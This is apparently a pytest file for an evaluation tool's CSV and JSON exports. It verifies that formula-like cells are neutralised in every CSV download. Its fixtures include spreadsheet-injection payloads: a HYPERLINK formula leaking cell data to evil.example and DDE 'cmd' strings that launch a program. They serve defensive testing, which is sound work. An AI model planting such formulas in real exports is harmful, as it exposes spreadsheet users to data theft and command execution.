"""CSV exports open as text in a spreadsheet: formula-like cells are neutralised in every CSV ecoflap writes."""

from __future__ import annotations

import csv
import io
import json

import pytest
from click.testing import CliRunner
from results_documents import document
from starlette.testclient import TestClient

from ecoflap.evaluation.dashboard.app import create_app
from ecoflap.evaluation.results.store import ResultsStore
from ecoflap.evaluation.results.tables import csv_text, spreadsheet_safe
from ecoflap.pipelines.cli import cli

MODEL = '=HYPERLINK("http://evil.example/"&A1,"x")'
TAG = "=cmd|' /C calc'!A0"
METRIC = "=1+1"
FORMULAS = (MODEL, TAG, METRIC)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("mini", "mini"),
        ("a=b", "a=b"),  # only the first character counts
        ("-0.04", "-0.04"),  # a number written as text stays a number
        ("+1e-3", "+1e-3"),
        ("-", "-"),  # the "no value" mark of a comparison
        (-0.04, -0.04),
        (3, 3),
        (None, None),
        ({"k": "=x"}, '{"k": "=x"}'),  # JSON text starts with {
    ],
)
def test_spreadsheet_safe(value, written):
    assert spreadsheet_safe(value) == written


def test_numbers_stay_numeric_in_the_csv():
    text = csv_text([{"name": "=bad", "delta": -0.04, "value": 0.7}], ["name", "delta", "value"])
    assert text == "name,delta,value\n'=bad,-0.04,0.7\n"


@pytest.fixture
def evil_db(tmp_path) -> str:
    """One dense and one pruned run of a model whose name, tag and metric name start with '='."""
    url = f"sqlite:///{tmp_path / 'evil.db'}"
    store = ResultsStore(url)
    store.record(document("k-dense", {"vqa": {METRIC: 0.8}}, model=MODEL, dense=True))
    store.record(document("k-pruned", {"vqa": {METRIC: 0.7}}, model=MODEL))
    store.tag("k-pruned", TAG)
    store.close()
    return url


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_text_cells(text: str, expected: tuple[str, ...]) -> None:
    cells = _cells(text)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))], cells
    for value in expected:
        assert "'" + value in cells, (value, cells)
    negative = [cell for cell in cells if cell.startswith("-") and cell != "-"]
    assert all(float(cell) < 0 for cell in negative), negative  # any '-' cell left is a number


def _cli(*args: str) -> str:
    result = CliRunner().invoke(cli, list(args))
    assert result.exit_code == 0, result.output
    return result.stdout


def test_cli_csv_exports_neutralise_formulas(evil_db, tmp_path):
    out = tmp_path / "export.csv"
    _cli("results", "export", "--format", "csv", "-o", str(out), "--db", evil_db)
    _assert_text_cells(out.read_text(), FORMULAS)
    _assert_text_cells(_cli("results", "export", "--format", "csv", "--db", evil_db), FORMULAS)
    _assert_text_cells(_cli("results", "list", "--format", "csv", "--db", evil_db), (MODEL, TAG))
    board = _cli("results", "leaderboard", "--format", "csv", "--db", evil_db)
    _assert_text_cells(board, (MODEL, METRIC))
    deltas = [row["delta"] for row in csv.DictReader(io.StringIO(board))]
    assert sorted(float(d) for d in deltas) == pytest.approx([-0.1, 0.0])  # negative numbers stay numeric
    _assert_text_cells(_cli("results", "compare", "k-dense", "k-pruned", "--format", "csv", "--db", evil_db), (METRIC,))
    exported = json.loads(_cli("results", "export", "--db", evil_db))  # JSON carries the real names
    assert exported[1]["model"] == MODEL and exported[1]["tags"] == [TAG]


def test_dashboard_csv_downloads_neutralise_formulas(evil_db):
    expected = {
        "/leaderboard.csv": (MODEL, METRIC),
        "/runs.csv": (MODEL, TAG),
        "/curves.csv": (MODEL, METRIC),
        "/runs/k-pruned.csv": (METRIC,),
        "/compare.csv?a=k-dense&b=k-pruned": (METRIC,),
    }
    with TestClient(create_app(evil_db)) as client:
        for path, values in expected.items():
            response = client.get(path)
            assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv"), path
            _assert_text_cells(response.text, values)
        assert client.get("/runs/k-pruned.json").json()["model"] == MODEL  # the JSON twin is not a spreadsheet


def _strict(text: str) -> object:
    def refuse(name: str) -> None:
        raise AssertionError(f"{name} is not JSON")

    return json.loads(text, parse_constant=refuse)


def test_json_exports_are_strict_json_when_a_metric_is_infinite(tmp_path):
    url = f"sqlite:///{tmp_path / 'inf.db'}"
    store = ResultsStore(url)
    store.record(document("k-inf", {"wikitext": {"word_perplexity": float("inf"), "loss": float("nan")}}))
    store.close()
    run = _strict(_cli("results", "show", "k-inf", "--format", "json", "--db", url))
    assert {m["metric"]: m["value"] for m in run["metrics"]} == {"word_perplexity": None, "loss": None}
    _strict(_cli("results", "export", "--db", url))
    _strict(_cli("results", "leaderboard", "--format", "json", "--db", url))
    _strict(_cli("results", "compare", "k-inf", "k-inf", "--format", "json", "--db", url))
    assert "inf" in _cli("results", "export", "--format", "csv", "--db", url)  # CSV keeps the value
